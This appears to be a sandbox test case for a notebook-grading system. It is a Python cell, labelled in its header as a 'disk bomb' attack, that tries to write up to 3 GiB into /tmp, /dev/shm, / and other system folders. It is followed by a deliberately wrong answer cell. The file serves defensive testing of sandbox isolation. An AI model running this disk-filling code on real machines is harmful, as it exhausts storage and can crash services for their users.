# ---
# attack: Fills every file system that it can write to.
# class: 'memory, fork, disk, descriptor, output bombs'
# sandboxes: [namespaces]
# detected: 'The cell `written = 0`'
# ---
# %% before="q1"
written = 0
for folder in ("/tmp", "/dev/shm", ".", "/var/tmp", "/", "/data", "/dev"):
    for number in range(4):
        try:
            with open(f"{folder}/full{number}", "wb", 0) as file:
                while written < 3 * 2**30 and file.write(b"x" * 2**24):
                    written = written + 2**24
        except OSError:
            pass
if written >= 3 * 2**30:
    raise RuntimeError("HOLE wrote 3 GiB")
raise RuntimeError(f"wrote {written >> 20} MiB")

# %% question="q1"
def double(x):
    return np.asarray(x) - 100
